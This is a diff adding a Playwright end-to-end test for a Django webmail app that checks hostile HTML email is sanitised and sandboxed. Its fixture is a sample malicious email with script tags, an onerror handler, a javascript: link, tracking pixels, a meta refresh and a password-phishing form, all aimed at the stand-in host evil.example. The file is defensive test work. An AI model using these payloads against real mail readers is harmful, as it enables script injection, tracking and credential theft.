@@ -1,0 +1,87 @@
+"""HTML mail is hostile: what it may do on the page, which is next to nothing."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+from django.contrib.auth.models import User
+from playwright.sync_api import BrowserContext, Page, Route, expect
+
+from emails.importing import store
+from emails.models import Email
+from tests.e2e.site import Site
+from tests.factories import make_email
+
+pytestmark = pytest.mark.browser
+
+PIXEL = base64.b64decode("R0lGODlhAQABAAAAACwAAAAAAQABAAA=")
+HOSTILE = """\
+From: Eve <eve@example.com>
+To: alex@example.org
+Subject: Look
+Message-ID: <{name}@example.com>
+MIME-Version: 1.0
+Content-Type: text/html; charset=utf-8
+
+<p id="said" style="background: url(https://evil.example/style.png)">Hello Alex</p>
+<img src="https://evil.example/pixel.png" onerror="document.body.append('it ran')">
+<script>document.body.append("it ran")</script>
+<iframe src="https://evil.example/frame"></iframe>
+<link rel="stylesheet" href="https://evil.example/style.css">
+<meta http-equiv="refresh" content="0; url=https://evil.example/away">
+<form action="https://evil.example/post"><input name="password"><button>Log in</button></form>
+<a href="javascript:document.body.append('it ran')">a link</a> <a href="https://example.net/">another</a>
+"""
+
+
+@pytest.fixture
+def reached(context: BrowserContext, site: Site) -> list[str]:
+    """Every request to another origin than the site's; each is answered with a pixel."""
+    urls: list[str] = []
+
+    def answer(route: Route) -> None:
+        urls.append(route.request.url)
+        route.fulfill(body=PIXEL, content_type="image/gif")
+
+    context.route(lambda url: not url.startswith(site.url) and not url.startswith("data:"), answer)
+    return urls
+
+
+def only_refusals(complaints: list[str]) -> None:
+    """The browser reports what the frame's policy refused; nothing else may be among it."""
+    assert all("Content Security Policy" in told or "sandboxed" in told for told in complaints), complaints
+    complaints.clear()
+
+
+def test_it_reaches_nobody_until_remote_images_are_asked_for(
+    page: Page, person: User, reached: list[str], complaints: list[str]
+) -> None:
+    _outcome, letter = store(person, HOSTILE.format(name=person.username).encode())
+    page.goto(f"/email/{letter.pk}/")
+    frame = page.frame_locator("iframe[name=mail]")
+    expect(frame.locator("#said, p").first).to_have_text("Hello Alex")
+    page.wait_for_load_state("networkidle")
+    assert reached == []
+    page.get_by_role("link", name="Show remote images").click()
+    expect(frame.get_by_text("Hello Alex")).to_be_visible()
+    page.wait_for_load_state("networkidle")
+    assert set(reached) <= {"https://evil.example/pixel.png", "https://evil.example/style.png"}
+    assert "https://evil.example/pixel.png" in reached
+    expect(frame.locator("body")).not_to_contain_text("it ran")
+    expect(frame.locator("form, script, iframe, link, [onerror]")).to_have_count(0)
+    only_refusals(complaints)
+
+
+def test_no_script_runs_even_if_one_got_past_the_sanitiser(
+    page: Page, person: User, reached: list[str], complaints: list[str]
+) -> None:
+    letter: Email = make_email(person, html=HOSTILE.split("\n\n", 1)[1])
+    page.goto(f"/email/{letter.pk}/")
+    frame = page.frame_locator("iframe[name=mail]")
+    expect(frame.locator("#said")).to_have_text("Hello Alex")
+    page.wait_for_load_state("networkidle")
+    expect(frame.locator("body")).not_to_contain_text("it ran")
+    assert page.url.endswith(f"/email/{letter.pk}/")
+    assert [url for url in reached if "away" not in url] == []
+    only_refusals(complaints)
